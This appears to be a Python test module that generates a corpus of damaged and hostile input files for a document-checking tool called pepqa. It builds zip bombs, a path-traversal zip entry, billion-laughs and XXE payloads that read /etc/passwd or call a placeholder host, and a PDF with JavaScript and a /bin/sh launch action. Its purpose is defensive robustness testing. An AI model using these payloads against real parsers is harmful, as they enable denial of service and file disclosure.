"""The bad-input corpus: files a Virtual School inbox can hold that are not clean PEP exports.

``build_corpus(dir)`` writes every file into ``dir`` and returns ``[(path, kind), ...]``;
``EXPECT[kind]`` says what pepqa must make of it:

- ``"error"``: unreadable; ``pepqa check`` exits 2 with one line ``pepqa: <path>: <reason>``;
- ``"read"``:  must read (a PEP comes out; exit 0 or 1);
- ``"any"``:   damaged at random (bit flips, cut points): either, but never a traceback or a hang.

Everything is generated from the samples and a fixed seed, so the corpus is the same on every
machine and nothing hostile is checked in. Huge files are sparse (they take no disk space).
Run ``python tests/corpus.py DIR`` to write the corpus somewhere and look at it.
"""
from __future__ import annotations

import html
import io
import json
import os
import random
import re
import struct
import sys
import zipfile
import zlib
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
SAMPLES = ROOT / "samples"
DOCX_SAMPLES = ("03-word-secondary-mixed.docx", "19-narrative-secondary-poor.docx")
PDF_SAMPLE = "10-epep-primary-mixed.pdf"
JSON_SAMPLE = "25-json-primary-good.json"

EXPECT: dict[str, str] = {}


def _kind(name: str, expect: str) -> str:
    EXPECT[name] = expect
    return name


# kinds and what they must give
TRUNCATED = _kind("truncated", "any")
BITFLIP = _kind("bit-flipped", "any")
EMPTY = _kind("zero-byte", "error")
HUGE = _kind("huge", "error")
ZIP_BOMB = _kind("zip-bomb", "error")
ZIP_LIE = _kind("zip-size-lie", "error")
ZIP_ODD = _kind("odd-zip", "error")
LAUGHS = _kind("billion-laughs", "error")
XXE = _kind("external-entity", "error")
EXTERNAL_REL = _kind("external-relationship", "any")
MANY_PARTS = _kind("thousands-of-parts", "error")
SOME_PARTS = _kind("many-parts-under-limit", "read")
NESTED = _kind("nested-tables", "any")
BIG_TEXT = _kind("huge-text", "read")
ENCRYPTED_PDF = _kind("encrypted-pdf", "error")
LOCKED_PDF = _kind("permission-locked-pdf", "read")
SCANNED = _kind("scanned-pdf", "error")
BROKEN_XREF = _kind("broken-xref", "any")
PDF_LOOP = _kind("pdf-loop", "any")
PDF_BOMB = _kind("pdf-stream-bomb", "error")
SLOW_PDF = _kind("pdf-operator-flood", "error")
MANY_PAGES = _kind("too-many-pages", "error")
PDF_ACTIONS = _kind("pdf-actions", "read")
PROGRAM = _kind("renamed-program", "error")
JSON_ENCODING = _kind("json-not-utf8", "error")
JSON_TYPES = _kind("json-wrong-types", "error")
JSON_ODD = _kind("json-odd-values", "any")
JSON_BIG = _kind("json-huge", "any")
LEGACY_DOC = _kind("legacy-doc", "error")
PROTECTED_DOCX = _kind("password-docx", "error")
NOT_A_FILE = _kind("not-a-regular-file", "error")

HUGE_BYTES = 60 * 1024 * 1024
PASSWD_MARK = "root:x:0:0"  # the first line of /etc/passwd: must never appear in anything pepqa prints or writes

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
LOL = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
       + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
       + "]>")


# ---------------------------------------------------------------------------------------------
# helpers


def _zip_parts(src: Path) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(src) as z:
        return [(i.filename, z.read(i)) for i in z.infolist()]


def _write_zip(path: Path, parts: list[tuple[str, bytes]], level: int = 6) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        for name, data in parts:
            z.writestr(name, data)


def _replace(parts: list[tuple[str, bytes]], name: str, data: bytes) -> list[tuple[str, bytes]]:
    return [(n, data if n == name else d) for n, d in parts]


def _doc_xml(body: str, prolog: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
            f'<w:document xmlns:w="{W_NS}"><w:body>{body}</w:body></w:document>').encode()


def _p(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _flip_bits(data: bytes, rng: random.Random, n: int, start: int = 0) -> bytes:
    b = bytearray(data)
    for _ in range(n):
        i = rng.randrange(start, len(b))
        b[i] ^= 1 << rng.randrange(8)
    return bytes(b)


def _raw_zip(entries: list[tuple[str, bytes, int, int, int]], shared_local: bool = False) -> bytes:
    """A zip from (name, stored bytes, method, declared uncompressed size, crc). With ``shared_local``
    every central-directory entry points at the first local header (an overlapping-entries bomb)."""
    out = io.BytesIO()
    central = []
    first_offset = None
    for name, stored, method, usize, crc in entries:
        nb = name.encode()
        if shared_local and first_offset is not None:
            offset = first_offset
        else:
            offset = out.tell()
            out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, method, 0, 0, crc, len(stored), usize, len(nb), 0))
            out.write(nb + stored)
            if first_offset is None:
                first_offset = offset
        central.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, method, 0, 0, crc, len(stored), usize,
                                   len(nb), 0, 0, 0, 0, 0, offset) + nb)
    cd_start = out.tell()
    for c in central:
        out.write(c)
    cd_size = out.tell() - cd_start
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(central), len(central), cd_size, cd_start, 0))
    return out.getvalue()


def _deflate(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def _ole(names: list[str], size: int = 4096) -> bytes:
    """A Compound File Binary container whose directory holds the given stream names (enough for sniffing)."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<L", header, 48, 1)  # first directory sector
    directory = bytearray()
    for i, name in enumerate(["Root Entry", *names]):
        entry = bytearray(128)
        enc = name.encode("utf-16-le")
        entry[: len(enc)] = enc
        struct.pack_into("<HBB", entry, 64, len(enc) + 2, 5 if i == 0 else 2, 1)
        directory += entry
    body = bytes(header) + bytes(512) + bytes(directory)
    return body + b"\x00" * max(0, size - len(body))


# ---------------------------------------------------------------------------------------------
# the corpus


def build_corpus(out: str | os.PathLike, seed: int = 20251020) -> list[tuple[Path, str]]:
    """Write the bad-input corpus into ``out``; returns (path, kind) for each file, in a fixed order."""
    out = Path(out)
    out.mkdir(parents=True, exist_ok=True)
    rng = random.Random(seed)
    made: list[tuple[Path, str]] = []

    def put(name: str, data: bytes, kind: str) -> Path:
        p = out / name
        p.write_bytes(data)
        made.append((p, kind))
        return p

    docx = (SAMPLES / DOCX_SAMPLES[0]).read_bytes()
    docx2 = (SAMPLES / DOCX_SAMPLES[1]).read_bytes()
    pdf = (SAMPLES / PDF_SAMPLE).read_bytes()
    parts = _zip_parts(SAMPLES / DOCX_SAMPLES[0])

    # -- truncated and bit-flipped copies of real exports
    for label, data, ext in (("word", docx, "docx"), ("narrative", docx2, "docx"), ("epep", pdf, "pdf")):
        for cut in (0.02, 0.6):
            put(f"truncated-{label}-{int(cut * 100):02d}pc.{ext}", data[: int(len(data) * cut)], TRUNCATED)
        put(f"truncated-{label}-minus1.{ext}", data[:-1], TRUNCATED)
        put(f"truncated-{label}-minus30.{ext}", data[:-30], TRUNCATED)
    for label, data, ext in (("word", docx, "docx"), ("narrative", docx2, "docx"), ("epep", pdf, "pdf")):
        for n in (1, 8, 64):
            put(f"bitflip-{label}-{n}.{ext}", _flip_bits(data, rng, n, start=4), BITFLIP)

    # -- empty and huge
    for ext in ("docx", "pdf", "json"):
        put(f"empty.{ext}", b"", EMPTY)
    for name, head in (("huge.pdf", b"%PDF-1.4\n"), ("huge.docx", b"PK\x03\x04")):
        p = put(name, head, HUGE)
        with open(p, "r+b") as f:
            f.truncate(HUGE_BYTES)  # sparse: 60 MB that take no disk

    # -- zip bombs and odd zips
    zeros = b"\x00" * (300 * 1024 * 1024)
    _bomb = zlib.compressobj(1, zlib.DEFLATED, -15)
    stored = _bomb.compress(zeros) + _bomb.flush()
    crc = zlib.crc32(zeros)
    del zeros
    body = _doc_xml(_p("A document with a 300 MB attachment."))
    put("zip-bomb-300mb.docx", _raw_zip([("[Content_Types].xml", b"<Types/>", 0, 8, zlib.crc32(b"<Types/>")),
                                         ("word/document.xml", body, 0, len(body), zlib.crc32(body)),
                                         ("word/media/image1.png", stored, 8, 300 * 1024 * 1024, crc)]), ZIP_BOMB)
    spaces = b" " * (20 * 1024 * 1024)
    xml = _doc_xml(_p("x")).replace(b"<w:body>", b"<w:body>" + spaces)
    put("zip-bomb-ratio.docx", _raw_zip([("word/document.xml", _deflate(xml), 8, len(xml), zlib.crc32(xml))]), ZIP_BOMB)
    one, one_crc = _deflate(spaces), zlib.crc32(spaces)
    put("zip-bomb-overlap.docx", _raw_zip([(f"word/media/f{i}.bin", one, 8, len(spaces), one_crc)
                                           for i in range(400)], shared_local=True), ZIP_BOMB)
    del spaces
    # declares 300 bytes, inflates to 5 MB: the reader must stop at the declared size
    big = _doc_xml(_p("lie " * 1_250_000))
    put("zip-size-lie.docx", _raw_zip([("word/document.xml", _deflate(big), 8, 300, zlib.crc32(big))]), ZIP_LIE)
    enc = _raw_zip([("word/document.xml", b"\x00" * 64, 0, 64, 0)])
    enc = enc.replace(b"PK\x03\x04\x14\x00\x00\x00", b"PK\x03\x04\x14\x00\x01\x00", 1)
    enc = enc.replace(b"PK\x01\x02\x14\x00\x14\x00\x00\x00", b"PK\x01\x02\x14\x00\x14\x00\x01\x00", 1)
    put("zip-encrypted-entry.docx", enc, ZIP_ODD)
    put("zip-not-word.docx", _raw_zip([("hello.txt", b"hello", 0, 5, zlib.crc32(b"hello"))]), ZIP_ODD)
    put("zip-path-traversal.docx", _raw_zip([("../../../../tmp/pepqa-pwned.txt", b"pwned", 0, 5, zlib.crc32(b"pwned"))]),
        ZIP_ODD)

    # -- XML attacks
    laughs = _doc_xml('<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>', LOL)
    put("billion-laughs-document.docx", _zip(parts, "word/document.xml", laughs), LAUGHS)
    styles = dict(parts)["word/styles.xml"].replace(b"?>", b"?>" + LOL.encode(), 1)
    put("billion-laughs-styles.docx", _zip(parts, "word/styles.xml", styles), LAUGHS)
    put("billion-laughs-utf16.docx", _zip(parts, "word/document.xml",
                                          laughs.decode().replace("UTF-8", "UTF-16").encode("utf-16")), LAUGHS)
    quad = _doc_xml(_p("&a;" * 20000), f'<!DOCTYPE d [<!ENTITY a "{"x" * 50000}">]>')
    put("quadratic-blowup.docx", _zip(parts, "word/document.xml", quad), LAUGHS)
    xxe_file = _doc_xml(_p("&xxe;"), '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
    put("xxe-file.docx", _zip(parts, "word/document.xml", xxe_file), XXE)
    xxe_http = _doc_xml(_p("&xxe;"), '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "http://pepqa-xxe.invalid/x">]>')
    put("xxe-http.docx", _zip(parts, "word/document.xml", xxe_http), XXE)
    xxe_dtd = _doc_xml(_p("&xxe;"), '<!DOCTYPE w:document SYSTEM "http://pepqa-xxe.invalid/evil.dtd">')
    put("xxe-external-dtd.docx", _zip(parts, "word/document.xml", xxe_dtd), XXE)
    xxe_param = _doc_xml(_p("x"), '<!DOCTYPE w:document [<!ENTITY % p SYSTEM "http://pepqa-xxe.invalid/p.dtd"> %p;]>')
    put("xxe-parameter-entity.docx", _zip(parts, "word/document.xml", xxe_param), XXE)
    rels = dict(parts)["_rels/.rels"].replace(
        b"?>", b'?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', 1)
    put("xxe-rels.docx", _zip(parts, "_rels/.rels", rels), EXTERNAL_REL)  # refused part; main part found anyway
    xinc = _doc_xml('<w:p><w:r><w:t><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                    'href="file:///etc/passwd" parse="text"/></w:t></w:r></w:p>' + _p("Pupil voice"))
    put("xinclude.docx", _zip(parts, "word/document.xml", xinc), EXTERNAL_REL)
    ext = dict(parts)["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://pepqa-xxe.invalid/t.dotm" TargetMode="External"/>'
        b'<Relationship Id="rIdX2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'image" Target="file:///etc/passwd" TargetMode="External"/></Relationships>')
    put("external-relationships.docx", _zip(parts, "word/_rels/document.xml.rels", ext), EXTERNAL_REL)
    root_rels = dict(parts)["_rels/.rels"]
    remote = re.sub(rb'Target="/?word/document.xml"', b'Target="http://pepqa-xxe.invalid/document.xml" '
                     b'TargetMode="External"', root_rels)
    put("external-main-part.docx", _zip(parts, "_rels/.rels", remote), EXTERNAL_REL)

    # -- structure: many parts, deep nesting, huge text
    filler = [(f"customXml/filler{i}.xml", b"<a/>") for i in range(5000)]
    put("parts-5000.docx", _zip_bytes(parts + filler), MANY_PARTS)
    put("parts-1900.docx", _zip_bytes(parts + filler[:1900 - len(parts)]), SOME_PARTS)
    for depth in (60, 200):
        inner = _p(f"innermost cell at depth {depth}")
        for d in range(depth):
            inner = f"<w:tbl><w:tr><w:tc>{_p(f'level {d}')}{inner}</w:tc></w:tr></w:tbl>" + ("<w:p/>" if d else "")
        put(f"nested-tables-{depth}.docx", _zip(parts, "word/document.xml", _doc_xml(_p("Pupil voice") + inner)), NESTED)
    words = "the child said that maths club helps because it is quiet and the tutor explains fractions".split()
    prose = " ".join(rng.choices(words, k=400_000))
    doc = dict(parts)["word/document.xml"]
    put("huge-paragraph.docx", _zip(parts, "word/document.xml",
                                    doc.replace(b"<w:body>", f"<w:body>{_p(prose)}".encode(), 1)), BIG_TEXT)

    # -- PDFs
    made.extend(_pdfs(out, pdf, rng))

    # -- wrong file types
    pe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00"
    pe += b"\x00" * 64 + b"PE\x00\x00" + bytes(rng.randrange(256) for _ in range(2000))
    put("setup.exe.docx", pe, PROGRAM)
    put("invoice.pdf", pe, PROGRAM)
    put("tool.json", b"\x7fELF\x02\x01\x01" + bytes(rng.randrange(256) for _ in range(2000)), PROGRAM)

    # -- JSON
    base = json.loads((SAMPLES / JSON_SAMPLE).read_text(encoding="utf-8"))
    text = json.dumps(base, ensure_ascii=False).replace("a", "\u00e4", 3)
    put("latin1.json", text.encode("latin-1", "replace"), JSON_ENCODING)
    put("utf16.json", text.encode("utf-16"), JSON_ENCODING)
    put("cp1252-smart-quotes.json", json.dumps({**base, "wellbeing": "\u201cfine\u201d"}, ensure_ascii=False)
        .encode("cp1252"), JSON_ENCODING)
    wrong = {
        "targets-string": {"targets": "Improve reading"},
        "child-number": {"child": 42},
        "attendance-list": {"attendance_percent": [97, 98]},
        "date-impossible": {"meeting_date": "2025-13-45"},
        "year-group-text": {"child": {**base.get("child", {}), "year_group": "Year Nine"}},
        "spend-cost-object": {"pp_spend": [{"cost": {"amount": 5}}]},
        "unknown-key": {"favourite_colour": "red"},
        "schema-version-list": {"schema_version": [1, 0]},
    }
    for name, patch in wrong.items():
        put(f"wrong-types-{name}.json", json.dumps({**base, **patch}).encode(), JSON_TYPES)
    put("array.json", b"[" + json.dumps(base).encode() + b"]", JSON_TYPES)
    put("deep.json", b'{"schema_version": "1.0", "child": ' + b"[" * 200_000 + b"]" * 200_000 + b"}", JSON_TYPES)
    odd = {
        "bigint": b'{"schema_version": "1.0", "attendance_percent": ' + b"9" * 5000 + b"}",
        "nan": json.dumps({**base, "attendance_percent": float("nan"), "sdq_score": float("inf")}).encode(),
        "negative": json.dumps({**base, "attendance_percent": -40, "sdq_score": -3}).encode(),
        "control-chars": json.dumps({**base, "wellbeing": "\x00\x1b[31m\u202e\ud800"}).encode(),
        "null-everything": json.dumps({k: None for k in base} | {"schema_version": "1.0"}).encode(),
    }
    for name, data in odd.items():
        put(f"odd-{name}.json", data, JSON_ODD)
    many = {**base, "targets": ((base.get("targets") or [{"text": "Read daily"}]) * 1500)[:1500]}
    put("many-targets.json", json.dumps(many).encode(), JSON_BIG)
    voice = base.get("pupil_voice") or {}
    put("huge-voice.json", json.dumps({**base, "pupil_voice": {**voice, "text": prose}}).encode(), JSON_BIG)
    put("fill-in-lines.json", json.dumps({**base, "sen_details": "Needs: " + "_" * 150_000 + " " + ")}" * 20_000})
        .encode(), JSON_BIG)  # punctuation runs: the tokenizer's time grows with the square of a run
    put("long-voice.json", json.dumps({**base, "pupil_voice": {**voice, "text": prose[:190_000]}}).encode(), JSON_BIG)

    # -- Office files pepqa does not read
    put("legacy.doc", _ole(["WordDocument", "1Table", "\x05SummaryInformation"]), LEGACY_DOC)
    put("legacy-renamed.docx", _ole(["WordDocument", "1Table"]), LEGACY_DOC)
    put("password-protected.docx", _ole(["EncryptionInfo", "EncryptedPackage", "\x06DataSpaces"]), PROTECTED_DOCX)

    # -- not a regular file (a named pipe would block a naive reader for ever)
    if hasattr(os, "mkfifo"):
        fifo = out / "pipe.pdf"
        if not fifo.exists():
            os.mkfifo(fifo)
        made.append((fifo, NOT_A_FILE))
    return made


def _zip(parts, name: str, data: bytes) -> bytes:
    return _zip_bytes(_replace(parts, name, data))


def _zip_bytes(parts: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as z:
        for name, data in parts:
            z.writestr(name, data)
    return buf.getvalue()


# ---------------------------------------------------------------------------------------------
# PDFs


def _pdfs(out: Path, pdf: bytes, rng: random.Random) -> list[tuple[Path, str]]:
    made: list[tuple[Path, str]] = []

    def put(name: str, data: bytes, kind: str) -> None:
        (out / name).write_bytes(data)
        made.append((out / name, kind))

    from pypdf import PdfReader, PdfWriter

    def encrypted(user: str, owner: str, algorithm: str, permissions: int | None = None) -> bytes:
        w = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
        kw = {"permissions_flag": permissions} if permissions is not None else {}
        w.encrypt(user_password=user, owner_password=owner, algorithm=algorithm, **kw)
        buf = io.BytesIO()
        w.write(buf)
        return buf.getvalue()

    put("encrypted-rc4.pdf", encrypted("secret", "owner", "RC4-128"), ENCRYPTED_PDF)
    put("encrypted-aes256.pdf", encrypted("secret", "owner", "AES-256"), ENCRYPTED_PDF)
    put("locked-owner-rc4.pdf", encrypted("", "owner-only", "RC4-128", permissions=-3904), LOCKED_PDF)
    put("locked-owner-aes128.pdf", encrypted("", "owner-only", "AES-128", permissions=-3904), LOCKED_PDF)
    put("locked-owner-aes256.pdf", encrypted("", "owner-only", "AES-256", permissions=-3904), LOCKED_PDF)

    put("scanned.pdf", _scanned(), SCANNED)

    # cross-reference tables: wrong offset, missing, garbage, a /Prev loop
    sx = pdf.rindex(b"startxref")
    xref = pdf.rindex(b"\nxref") + 1
    trailer = pdf.rindex(b"trailer")
    put("xref-wrong-offset.pdf", pdf[:sx] + b"startxref\n999999\n%%EOF\n", BROKEN_XREF)
    put("xref-missing.pdf", pdf[:xref] + b"%%EOF\n", BROKEN_XREF)
    garbage = bytes(rng.choice(b"0123456789 nf\n") for _ in range(trailer - xref - 20))
    put("xref-garbage.pdf", pdf[:xref + 20] + garbage + pdf[trailer:], BROKEN_XREF)
    tr = pdf[trailer:sx].replace(b"/Root", b"/Prev " + str(xref).encode() + b"\n/Root", 1)
    looped = pdf[:trailer] + tr + pdf[sx:]
    put("xref-prev-loop.pdf", looped, BROKEN_XREF)
    put("xref-no-trailer.pdf", pdf[:trailer] + b"%%EOF\n", BROKEN_XREF)

    put("page-tree-loop.pdf", _page_tree_loop(), PDF_LOOP)
    put("flate-bomb-stream.pdf", _stream_bomb(), PDF_BOMB)
    put("operator-flood.pdf", _operator_flood(), SLOW_PDF)
    put("many-pages.pdf", _many_pages(1000), MANY_PAGES)
    put("actions-javascript-uri.pdf", _with_actions(pdf), PDF_ACTIONS)
    put("pdf-header-then-garbage.pdf", b"%PDF-1.7\n" + bytes(rng.randrange(256) for _ in range(5000)) + b"\n%%EOF\n",
        BROKEN_XREF)
    return made


def _scanned() -> bytes:
    """Two pages that are pictures of text (what a scanner makes): no text layer at all."""
    from PIL import Image, ImageDraw
    from reportlab.lib.pagesizes import A4
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfgen.canvas import Canvas

    buf = io.BytesIO()
    c = Canvas(buf, pagesize=A4)
    for page in range(2):
        img = Image.new("L", (620, 877), 255)
        d = ImageDraw.Draw(img)
        for i in range(30):
            d.text((40, 40 + i * 26), f"Personal Education Plan page {page + 1} line {i}: targets and pupil voice", fill=0)
        c.drawImage(ImageReader(img), 0, 0, *A4)
        c.showPage()
    c.save()
    return buf.getvalue()


def _pdf_from_objects(objs: list[bytes], root: int = 1) -> bytes:
    """A classic PDF with a correct xref table from numbered object bodies (1-based)."""
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objs, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % i + body + b"\nendobj\n")
    x = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1))
    for o in offsets:
        out.write(b"%010d 00000 n \n" % o)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, root, x))
    return out.getvalue()


def _page_tree_loop() -> bytes:
    content = b"BT /F1 12 Tf 72 720 Td (Pupil voice: I like reading.) Tj ET"
    return _pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R 2 0 R] /Count 3 >>",  # the tree contains itself
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ])


def _stream_bomb() -> bytes:
    """One page whose content stream is 1.5 KB compressed and 150 MB inflated."""
    raw = b" " * (150 * 1024 * 1024)
    packed = zlib.compress(raw, 1)
    del raw
    return _pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed + b"\nendstream",
    ])


def _operator_flood() -> bytes:
    """60 KB that inflate to 24 MB of drawing operators on one page: minutes of interpretation."""
    raw = b"0 0 m 10 10 l S\n" * (24 * 1024 * 1024 // 16)
    packed = zlib.compress(raw, 9)
    return _pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed + b"\nendstream",
    ])


def _many_pages(n: int) -> bytes:
    from reportlab.pdfgen.canvas import Canvas

    buf = io.BytesIO()
    c = Canvas(buf)
    for i in range(n):
        c.drawString(72, 720, f"Page {i + 1}")
        c.showPage()
    c.save()
    return buf.getvalue()


def _with_actions(pdf: bytes) -> bytes:
    """The sample with an OpenAction script, a launch action and a link to a remote address."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    w = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
    w._root_object[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"),
        NameObject("/JS"): TextStringObject("app.launchURL('http://pepqa-xxe.invalid/ping', true);"),
        NameObject("/Next"): DictionaryObject({NameObject("/S"): NameObject("/Launch"),
                                               NameObject("/F"): TextStringObject("/bin/sh")})})
    from pypdf.annotations import Link

    w.add_annotation(0, Link(rect=(50, 50, 200, 80), url="http://pepqa-xxe.invalid/link"))
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


# ---------------------------------------------------------------------------------------------
# running pepqa in a subprocess with the network refused


NETBLOCK = r'''"""Written by pepqa's tests: records, then refuses, every attempt to reach the network.

A connection or datagram from an internet socket (AF_INET/AF_INET6) and every name look-up are refused
with OSError after a line is written to $PEPQA_NET_LOG. Creating or binding a socket is not an attempt
(urllib3 binds one to ::1 at import to see whether IPv6 exists); local sockets (AF_UNIX) are left alone.
"""
import json
import os
import socket
import sys

_LOG = os.environ.get("PEPQA_NET_LOG")
_INET = {socket.AF_INET, socket.AF_INET6}


def _refuse(call, detail):
    if _LOG:
        with open(_LOG, "a", encoding="utf-8") as f:
            f.write(json.dumps({"pid": os.getpid(), "call": call, "detail": repr(detail)[:200],
                                "argv": sys.argv[:3]}) + "\n")
    raise OSError(f"network access refused by pepqa's tests ({call})")


class _GuardedSocket(socket.socket):
    def connect(self, address):
        if self.family in _INET:
            _refuse("connect", address)
        return super().connect(address)

    def connect_ex(self, address):
        if self.family in _INET:
            _refuse("connect_ex", address)
        return super().connect_ex(address)

    def sendto(self, *args):
        if self.family in _INET:
            _refuse("sendto", args[-1])
        return super().sendto(*args)

    def sendmsg(self, *args):
        if self.family in _INET and len(args) > 3 and args[3]:
            _refuse("sendmsg", args[3])
        return super().sendmsg(*args)


def _blocked(name):
    def refuse(*args, **kwargs):
        _refuse(name, args)
    return refuse


socket.socket = _GuardedSocket
for _name in ("create_connection", "getaddrinfo", "gethostbyname", "gethostbyname_ex", "gethostbyaddr",
              "getnameinfo"):
    setattr(socket, _name, _blocked(_name))
'''


def netblock_env(folder: str | os.PathLike) -> tuple[dict[str, str], Path]:
    """Environment for a subprocess that runs pepqa from this checkout with the network refused;
    and the log file in which each refused attempt is a line."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "sitecustomize.py").write_text(NETBLOCK, encoding="utf-8")
    log = folder / "network-attempts.jsonl"
    log.touch()
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join([str(folder), str(ROOT)] + ([env["PYTHONPATH"]] if env.get("PYTHONPATH") else []))
    env["PEPQA_NET_LOG"] = str(log)
    env.pop("PYTHONSTARTUP", None)
    return env, log


def attempts(log: Path) -> list[dict]:
    return [json.loads(line) for line in log.read_text(encoding="utf-8").splitlines() if line.strip()]


def fingerprint(paths) -> dict[str, tuple[str, int]]:
    """sha256 and mtime (ns) of every regular file under the given files and folders: to show inputs untouched."""
    import hashlib
    import stat

    out: dict[str, tuple[str, int]] = {}
    todo = [Path(p) for p in paths]
    while todo:
        p = todo.pop()
        st = os.lstat(p)
        if stat.S_ISDIR(st.st_mode):
            todo.extend(p.iterdir())
        elif stat.S_ISREG(st.st_mode):
            h = hashlib.sha256()
            with open(p, "rb") as f:
                for chunk in iter(lambda: f.read(1 << 20), b""):
                    h.update(chunk)
            out[str(p)] = (h.hexdigest(), st.st_mtime_ns)
        else:
            out[str(p)] = (stat.filemode(st.st_mode), st.st_mtime_ns)
    return out


def output_text(folder: str | os.PathLike) -> str:
    """All the text pepqa wrote under ``folder``: plain files as they are, Word and workbook XML unzipped,
    PDF text extracted. For asserting what an output does (not) contain."""
    bits: list[str] = []
    for p in sorted(Path(folder).rglob("*")):
        if not p.is_file() or p.name == "pseudonym.key":
            continue
        if p.suffix in (".docx", ".xlsx"):
            with zipfile.ZipFile(p) as z:
                for n in z.namelist():
                    if n.endswith(".xml"):  # text without tags, so a name split over runs still shows
                        xml = z.read(n).decode("utf-8", "replace")
                        bits.append(html.unescape(re.sub(r"<[^>]+>", "", xml)))
        elif p.suffix == ".pdf":
            import pdfplumber

            with pdfplumber.open(p) as pdf:
                bits += [page.extract_text() or "" for page in pdf.pages]
        else:
            bits.append(p.read_bytes().decode("utf-8", "replace"))
    return "\n".join(bits)


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "corpus")
    for path, kind in build_corpus(target):
        print(f"{EXPECT[kind]:5}  {kind:24}  {path}")
